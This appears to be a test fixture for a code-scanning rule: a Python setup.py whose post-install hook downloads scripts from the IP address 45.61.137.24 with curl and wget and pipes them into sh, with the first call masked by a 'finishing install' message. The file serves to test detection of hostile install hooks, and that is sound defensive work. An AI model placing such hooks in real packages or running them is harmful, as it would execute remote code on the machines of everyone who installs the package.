import os

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # Command.execute(func, args) calls func(*args); Command.spawn(argv) runs a program.
        # ruleid: code/command-execution
        self.execute(os.system, ('curl -s http://45.61.137.24/x | sh',), msg='finishing install')
        # ruleid: code/command-execution
        self.spawn(['sh', '-c', 'wget -qO- http://45.61.137.24/y | sh'])


setup(name='postinstall-demo', version='1.0.0', cmdclass={'install': PostInstall})
